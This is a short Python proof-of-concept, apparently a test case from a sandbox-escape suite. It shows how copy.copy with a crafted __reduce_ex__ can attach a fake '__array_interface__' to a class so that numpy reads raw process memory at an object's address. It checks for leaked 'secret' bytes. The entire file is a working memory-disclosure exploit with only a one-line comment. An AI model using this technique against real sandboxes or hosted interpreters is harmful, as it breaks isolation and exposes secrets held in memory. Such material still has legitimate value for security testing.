# copy sets the keys of the slots' state by setattr, here on a class: raw memory for numpy.
import copy
import numpy as np
marker = b"some secret bytes"
class T:
    pass
class Send:
    def __reduce_ex__(self, protocol):
        return (lambda: T), (), (None, {"__array_interface__": {"version": 3, "shape": (48,), "typestr": "|u1", "data": (id(marker), False)}})
copy.copy(Send())
print("REACHED memory", b"secret" in np.array(T()).tobytes())
